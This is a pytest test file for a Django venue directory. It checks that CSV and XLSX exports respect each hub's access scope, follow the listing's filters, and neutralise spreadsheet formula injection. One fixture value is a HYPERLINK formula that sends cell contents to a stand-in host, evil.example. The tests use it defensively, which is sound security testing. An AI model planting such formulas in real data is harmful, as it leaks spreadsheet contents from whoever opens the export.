"""The venue listing's export (Wagtail's list_export): the listing's own venues, defused."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from directory.models import Status
from directory.vocabulary import Service
from hubsite.exports import FORMULA_TRIGGERS
from hubsite.roles import NATIONAL_TEAM, role_group
from tests.directory.factories import venue_in
from tests.factories import HubFactory, UserFactory, coordinator_of

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1, "Cliquez")'
LISTING = reverse("venues:list")


@pytest.fixture
def hubs(home):
    hub_a = HubFactory(name="Hub A", slug="hub-a")
    hub_b = HubFactory(name="Hub B", slug="hub-b")
    venue_in(
        hub_a,
        name=HOSTILE_NAME,
        phone="+33 5 45 00 00 00",
        services=[Service.DEMARCHES],
        status=Status.PENDING,
    )
    venue_in(hub_a, name="Médiathèque du hub A", status=Status.QUALIFIED)
    venue_in(hub_b, name="Lieu SECRET du hub B")
    return hub_a, hub_b


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


def xlsx_rows(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return list(sheet.iter_rows())


def test_the_venue_listing_offers_an_export(client, hubs):
    client.force_login(coordinator_of(hubs[0]))

    page = client.get(LISTING).content.decode()

    assert "export=csv" in page and "export=xlsx" in page


def test_a_coordinator_exports_only_their_hubs_venues(client, hubs):
    client.force_login(coordinator_of(hubs[0]))

    rows = csv_rows(client.get(LISTING + "?export=csv"))

    names = [row[1] for row in rows[1:]]
    assert sorted(names) == sorted(["'" + HOSTILE_NAME, "Médiathèque du hub A"])
    assert rows[0][:3] == ["Numéro", "Nom", "Qualification"]


def test_the_export_follows_the_listings_filters(client, hubs):
    client.force_login(coordinator_of(hubs[0]))

    rows = csv_rows(client.get(LISTING + f"?status={Status.QUALIFIED}&export=csv"))

    assert [row[1] for row in rows[1:]] == ["Médiathèque du hub A"]
    assert rows[1][2] == "Qualifié"


def test_the_national_team_exports_every_venue(client, hubs):
    user = UserFactory(username="national-export")
    user.groups.add(role_group(NATIONAL_TEAM))
    client.force_login(user)

    rows = csv_rows(client.get(LISTING + "?export=csv"))

    assert "Lieu SECRET du hub B" in [row[1] for row in rows[1:]]


def test_a_hostile_venue_name_is_defused_in_the_csv_export(client, hubs):
    client.force_login(coordinator_of(hubs[0]))

    rows = csv_rows(client.get(LISTING + "?export=csv"))

    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE_NAME in cells
    assert "'+33 5 45 00 00 00" in cells
    assert str(Service.DEMARCHES.label) in cells  # services by their French labels
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert "SECRET" not in " ".join(cells)


def test_a_hostile_venue_name_is_text_in_the_xlsx_export(client, hubs):
    client.force_login(coordinator_of(hubs[0]))

    rows = xlsx_rows(client.get(LISTING + "?export=xlsx"))

    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE_NAME in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_TRIGGERS)]
    assert len(rows) == 3  # the heading and the hub's two venues
